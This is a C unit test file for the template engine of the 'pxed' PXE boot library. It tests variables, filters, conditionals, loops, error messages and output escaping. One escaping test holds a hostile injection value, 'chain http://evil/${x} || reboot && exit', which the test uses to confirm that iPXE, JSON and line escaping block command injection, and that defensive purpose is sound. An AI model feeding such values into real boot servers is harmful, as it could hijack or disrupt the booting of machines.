/* SPDX-License-Identifier: LGPL-2.1-or-later */
/* The template language: variables, filters, conditionals, loops, escaping, errors. */
#include <pxed/pxed.h>

static char *
render(const char *text, PxedTemplateEscape escape, PxedTemplateVars *vars, GError **error)
{
	g_autoptr(PxedTemplate) t = pxed_template_new("t.tmpl", text, escape, error);
	if (t == NULL)
		return NULL;
	return pxed_template_render(t, vars, error);
}

static PxedTemplateVars *
sample_vars(void)
{
	PxedTemplateVars *v = pxed_template_vars_new();
	const char *initrds[] = {"/a/initrd.img", "/b/extra.cpio", NULL};
	pxed_template_vars_set(v, "mac", "52:54:00:12:34:56");
	pxed_template_vars_set(v, "kernel", "/assets/vmlinuz");
	pxed_template_vars_set(v, "efi", "true");
	pxed_template_vars_set(v, "empty", "");
	pxed_template_vars_set(v, "metadata.role", "worker");
	pxed_template_vars_set(v, "query.serial", "SN 1&2");
	pxed_template_vars_set_list(v, "initrd", initrds);
	return v;
}

static void
test_render(void)
{
	const struct {
		const char *in;
		const char *out;
	} cases[] = {
		{"plain text, no tags", "plain text, no tags"},
		{"kernel {{kernel}}", "kernel /assets/vmlinuz"},
		{"{{ kernel }}|{{.kernel}}", "/assets/vmlinuz|/assets/vmlinuz"},
		{"{{ metadata.role | upper }}", "WORKER"},
		{"{{query.serial|url}}", "SN%201%262"},
		{"{{request.query.serial | json}}", "\"SN 1&2\""},
		{"{{if efi}}EFI{{else}}BIOS{{end}}", "EFI"},
		{"{{if empty}}yes{{else}}no{{end}}", "no"},
		{"{{if missing}}yes{{end}}.", "."},
		{"{{if not missing}}absent{{end}}", "absent"},
		{"{{if metadata.role == \"worker\"}}W{{end}}{{if metadata.role != \"x\"}}!{{end}}",
		 "W!"},
		{"{{each initrd}}initrd {{.}}\n{{end}}",
		 "initrd /a/initrd.img\ninitrd /b/extra.cpio\n"},
		{"{{range .initrd}}{{. | basename}},{{end}}", "initrd.img,extra.cpio,"},
		{"{{if efi}}{{each initrd}}initrd={{.|basename}} {{end}}{{end}}",
		 "initrd=initrd.img initrd=extra.cpio "},
		{"a{{# a comment }}b", "ab"},
		{"${mac} stays for iPXE: {{mac}}", "${mac} stays for iPXE: 52:54:00:12:34:56"},
		{"{{each kernel}}[{{.}}]{{end}}", "[/assets/vmlinuz]"},
	};
	g_autoptr(PxedTemplateVars) v = sample_vars();

	for (guint i = 0; i < G_N_ELEMENTS(cases); i++) {
		g_autoptr(GError) error = NULL;
		g_autofree char *out = render(cases[i].in, PXED_TEMPLATE_ESCAPE_NONE, v, &error);
		g_assert_no_error(error);
		g_assert_cmpstr(out, ==, cases[i].out);
	}
}

static void
test_escaping(void)
{
	/* metadata with quotes, spaces, newlines, ${ and chaining operators */
	const char *hostile = "a \"b\" 'c'\n:label\r\nchain http://evil/${x} || reboot && exit\tz";
	g_autoptr(PxedTemplateVars) v = pxed_template_vars_new();
	g_autoptr(GError) error = NULL;
	g_autofree char *ipxe = NULL;
	g_autofree char *json = NULL;
	g_autofree char *line = NULL;

	pxed_template_vars_set(v, "metadata.x", hostile);
	ipxe = render("#!ipxe\nset x {{metadata.x}}\nboot\n", PXED_TEMPLATE_ESCAPE_IPXE, v, &error);
	g_assert_no_error(error);
	g_assert_cmpstr(
		ipxe, ==,
		"#!ipxe\nset x a%20%22b%22%20'c'%0A:label%0D%0Achain%20http://evil/%24%7Bx%7D"
		"%20%7C%7C%20reboot%20%26%26%20exit%09z\nboot\n");
	/* still exactly three lines: no command was injected */
	{
		g_auto(GStrv) lines = g_strsplit(ipxe, "\n", -1);
		g_assert_cmpint(g_strv_length(lines), ==, 4);
	}
	g_assert_null(strstr(ipxe, "${"));
	g_assert_null(strstr(ipxe, "||"));
	g_assert_null(strstr(ipxe, "&&"));

	json = render("{\"x\": \"{{metadata.x}}\"}", PXED_TEMPLATE_ESCAPE_JSON, v, &error);
	g_assert_no_error(error);
	{
		/* the result is one valid JSON string holding the value unchanged */
		g_autofree char *expected = g_strdup_printf(
			"{\"x\": \"%s\"}", "a \\\"b\\\" 'c'\\n:label\\r\\nchain "
					   "http://evil/${x} || reboot && exit\\tz");
		g_assert_cmpstr(json, ==, expected);
	}
	line = render("APPEND {{metadata.x}}\n", PXED_TEMPLATE_ESCAPE_LINE, v, &error);
	g_assert_no_error(error);
	g_assert_null(strchr(line, '\r'));
	{
		g_auto(GStrv) lines = g_strsplit(line, "\n", -1);
		g_assert_cmpint(g_strv_length(lines), ==, 2);
	}
}

static void
test_errors(void)
{
	const struct {
		const char *in;
		const char *message; /* with "t.tmpl:LINE: " */
	} cases[] = {
		{"line 1\nline 2 {{ nosuch }}", "t.tmpl:2: unknown variable 'nosuch'"},
		{"\n\n{{metadata.hostname}}", "t.tmpl:3: unknown variable 'metadata.hostname'"},
		{"{{.}}", "t.tmpl:1: unknown variable '. (outside each)'"},
		{"a\n{{ kernel", "t.tmpl:2: '{{' is never closed by '}}'"},
		{"{{if efi}}x", "t.tmpl:1: 'if efi' has no matching '{{end}}'"},
		{"x\n{{end}}", "t.tmpl:2: '{{end}}' without an 'if' or 'each' to close"},
		{"{{each initrd}}{{else}}{{end}}",
		 "t.tmpl:1: 'else' inside 'each' (only 'if' has one)"},
		{"{{kernel | shout}}", "t.tmpl:1: unknown filter 'shout' (url, json, basename, "
				       "upper, lower, words, raw)"},
		{"{{if a == b}}{{end}}", "t.tmpl:1: compare with a \"quoted\" text: if a == b"},
		{"{{ foo bar }}", "t.tmpl:1: 'foo bar' is not a variable name"},
		{"{{ if }}", "t.tmpl:1: 'if' is not a variable name"},
		/* found by tests/fuzz/fuzz-template: a critical from g_strstrip(NULL) */
		{"a\n{{}}", "t.tmpl:2: an empty '{{}}'"},
		{"{{ \t }}", "t.tmpl:1: an empty '{{}}'"},
		{"{{ | url }}", "t.tmpl:1: '' is not a variable name"},
	};
	g_autoptr(PxedTemplateVars) v = sample_vars();

	for (guint i = 0; i < G_N_ELEMENTS(cases); i++) {
		g_autoptr(GError) error = NULL;
		g_autofree char *out = render(cases[i].in, PXED_TEMPLATE_ESCAPE_NONE, v, &error);
		g_assert_null(out);
		g_assert_error(error, PXED_ERROR, PXED_ERROR_INVALID);
		g_assert_cmpstr(error->message, ==, cases[i].message);
	}
}

int
main(int argc, char **argv)
{
	g_test_init(&argc, &argv, NULL);
	g_test_add_func("/template/render", test_render);
	g_test_add_func("/template/escaping", test_escaping);
	g_test_add_func("/template/errors", test_errors);
	return g_test_run();
}
